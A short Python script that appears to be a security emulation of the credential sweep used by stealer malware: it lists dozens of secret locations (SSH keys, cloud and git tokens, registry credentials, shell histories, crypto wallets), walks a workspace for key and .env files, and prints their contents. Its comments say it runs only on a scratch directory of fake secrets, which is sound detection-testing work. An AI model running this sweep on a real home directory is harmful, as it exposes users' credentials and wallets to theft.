# The credential sweep that several thefts share: a fixed list, most of it absent, then a shallow walk of the workspace.
# An emulation: it reads below $HOME only, which is a scratch directory of made-up secrets, and prints what it found.
import os
import sys

PATHS = """
.ssh/id_rsa .ssh/id_ed25519 .ssh/id_ecdsa .ssh/id_dsa .ssh/authorized_keys .ssh/known_hosts .ssh/config
.gitconfig .git-credentials .config/git/credentials .netrc .config/gh/hosts.yml .config/glab-cli/config.yml
.aws/credentials .aws/config .aws/sso/cache/token.json .aws/cli/cache/session.json
.config/gcloud/credentials.db .config/gcloud/access_tokens.db .config/gcloud/application_default_credentials.json
.azure/accessTokens.json .azure/msal_token_cache.json .azure/azureProfile.json .oci/config
.kube/config .kube/cache/token .minikube/profiles/minikube/client.key .helm/repository.yaml .config/helm/registry/config.json
.docker/config.json .docker/daemon.json .config/containers/auth.json
.npmrc .yarnrc .yarnrc.yml .pypirc .config/pip/pip.conf .pip/pip.conf .gem/credentials .cargo/credentials.toml
.cargo/credentials .m2/settings.xml .gradle/gradle.properties .nuget/NuGet.Config .composer/auth.json .config/composer/auth.json
.vault-token .terraformrc .terraform.d/credentials.tfrc.json .pulumi/credentials.json .databrickscfg .snowsql/config
.pgpass .my.cnf .mongorc.js .rediscli_history .mysql_history .psql_history .bash_history .zsh_history .python_history
.config/hub .config/op/config .config/doctl/config.yaml .config/configstore/firebase-tools.json .netlify/config.json
.config/sops/age/keys.txt .gnupg/secring.gpg .gnupg/private-keys-v1.d/key.key .wgetrc .curlrc .s3cfg .boto .env .env.local
.config/solana/id.json .bitcoin/wallet.dat .ethereum/keystore/key .electrum/wallets/default_wallet
""".split()
NAMES = (".env", ".env.local", ".env.production", "terraform.tfvars", "terraform.tfstate", ".npmrc", ".pypirc")
LIMIT = 5 << 20


def candidates(home):
    for path in PATHS:
        yield os.path.join(home, path)
    work = os.path.join(home, "work")
    for directory, children, files in os.walk(work):
        if directory[len(work):].count("/") >= 6:
            children.clear()
        if ".git" in children:
            yield os.path.join(directory, ".git/config")
        for name in files:
            if name in NAMES or name.endswith((".pem", ".key", ".p12", ".pfx")):
                yield os.path.join(directory, name)


def sweep(out):
    for path in candidates(os.environ["HOME"]):
        try:
            with open(path, "rb") as file:
                text = file.read(LIMIT)
        except OSError:
            continue
        out.write(b"=== " + os.fsencode(path) + b"\n" + text)


sweep(sys.stdout.buffer)
sys.stdout.flush()
